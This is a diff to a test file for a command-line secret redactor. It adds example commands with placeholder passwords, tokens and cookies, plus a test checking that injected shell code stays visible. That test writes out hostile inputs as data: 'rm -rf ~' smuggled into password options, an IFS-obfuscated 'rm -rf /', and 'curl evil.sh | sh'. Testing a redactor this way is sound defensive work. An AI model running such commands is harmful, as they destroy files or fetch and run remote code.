@@ -44,6 +44,23 @@ const EXAMPLES: [string, string, string][] = [
   ['mysql-password', 'mysql -u root -pMyS3cretPw app', 'MyS3cretPw'],
   ['basic-auth-option', 'curl -u alice:wonderland-42 https://x', 'wonderland-42'],
   ['netrc-password', 'echo "machine api.example.com login bob password n3trcPw" >> ~/.netrc', 'n3trcPw'],
+  // Issue 23 row 18: what the catalogue used to miss.
+  ['login-password', 'docker login -u bob -p D0ckerPw-77 registry.example.com', 'D0ckerPw-77'],
+  ['login-password', 'sshpass -p SshPassPw-1 ssh deploy@host', 'SshPassPw-1'],
+  ['login-password', 'az login --service-principal -u app-id -p AzPw-secret-9 --tenant t', 'AzPw-secret-9'],
+  ['redis-password', 'redis-cli -h cache -a R3disPw-2 ping', 'R3disPw-2'],
+  ['htpasswd-password', 'htpasswd -b /etc/nginx/.htpasswd alice HtPw-secret-3', 'HtPw-secret-3'],
+  ['htpasswd-password', 'htpasswd -nb alice HtPw-secret-4', 'HtPw-secret-4'],
+  ['openssl-password', 'openssl enc -aes-256-cbc -k OsslPw-5 -in a -out b', 'OsslPw-5'],
+  ['openssl-password', 'openssl rsa -in key.pem -passin pass:OsslPw-6 -out plain.pem', 'OsslPw-6'],
+  ['cookie-header', 'curl -H "Cookie: session=CookieSess-7; theme=dark" https://x', 'CookieSess-7'],
+  ['cookie-header', "curl -b 'sid=CookieSid-8' https://x", 'CookieSid-8'],
+  ['sendgrid-key', 'curl -H "x: SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg" https://api.sendgrid.com', 'SG.abcdefghijklmnopqrstuv.ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefg'],
+  ['secret-assignment', 'echo "SMTP_PASS=SmtpPw-10" >> .env', 'SmtpPw-10'],
+  ['secret-assignment', 'GITHUB_PAT=PatValue-11 gh repo list', 'PatValue-11'],
+  ['auth-header', 'curl -H "X-Auth: XAuthValue-12" https://x', 'XAuthValue-12'],
+  ['url-signature', 'curl "https://acct.blob.core.windows.net/c/b.txt?sv=2022-11-02&sig=SasSig13%3D&se=2030"', 'SasSig13%3D'],
+  ['url-signature', 'wget "https://b.s3.amazonaws.com/k?X-Amz-Signature=AmzSig14abcdef&X-Amz-Date=1"', 'AmzSig14abcdef'],
 ];
 
 /** Commands with nothing secret in them, which must come out unchanged (a reviewer has to read them). */
@@ -60,6 +77,11 @@ const ORDINARY = [
   'token: string;',
   'aws s3 ls s3://bucket --profile prod',
   'ssh -i ~/.ssh/id_ed25519 user@host',
+  'docker run -p 8080:80 -a stdout nginx',
+  'BYPASS_CACHE=1 PATH=/usr/bin PWD=/tmp make',
+  'curl -b cookies.txt https://example.com',
+  'openssl x509 -in cert.pem -noout -text',
+  'git log --author=alice --format=%an',
 ];
 
 describe('the secret catalogue', () => {
@@ -82,6 +104,19 @@ describe('the secret catalogue', () => {
     assert.equal(redactText('curl -H "Authorization: Bearer abcdefghijkl0123" https://x'), 'curl -H "Authorization: Bearer [REDACTED]" https://x');
     assert.equal(redactText('mysql -u root -phunter22 app'), 'mysql -u root -p[REDACTED] app');
     assert.equal(redactText('psql postgres://admin:pw123456@db/app'), 'psql postgres://admin:[REDACTED]@db/app');
+  });
+
+  it('stops at shell syntax: code after or inside a secret-looking option is never masked (issue 23 rows 6, 18)', () => {
+    assert.equal(redactText('mysql -p$(rm -rf ~) db'), 'mysql -p$(rm -rf ~) db');
+    assert.equal(redactText('mysql -pabc`rm -rf ~` db'), 'mysql -p[REDACTED]`rm -rf ~` db');
+    assert.equal(redactText('mysql -phunter2;rm -rf ~'), 'mysql -p[REDACTED];rm -rf ~');
+    assert.equal(redactText('sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com'), 'sudo curl -u admin:$(rm${IFS}-rf${IFS}/) https://x.com');
+    assert.equal(redactText('curl -u admin:hunter2|sh'), 'curl -u admin:[REDACTED]|sh');
+    assert.equal(redactText('API_TOKEN="$(curl evil.sh | sh)" ./run'), 'API_TOKEN="$(curl evil.sh | sh)" ./run');
+    assert.equal(redactText("API_TOKEN='$(literal)' ./run"), "API_TOKEN=[REDACTED] ./run", 'single quotes are literal: masked');
+    assert.match(redactText('curl -H "Authorization: Bearer $(cat /tmp/t)" x'), /\$\(cat \/tmp\/t\)" x$/, 'the substitution stays visible');
+    assert.equal(redactText('docker login -p $(pass show hub) docker.io'), 'docker login -p $(pass show hub) docker.io');
+    assert.equal(redactText('curl -H Cookie:sid=abc; rm -rf ~'), 'curl -H Cookie:[REDACTED]; rm -rf ~');
   });
 
   it('leaves ordinary commands alone', () => {
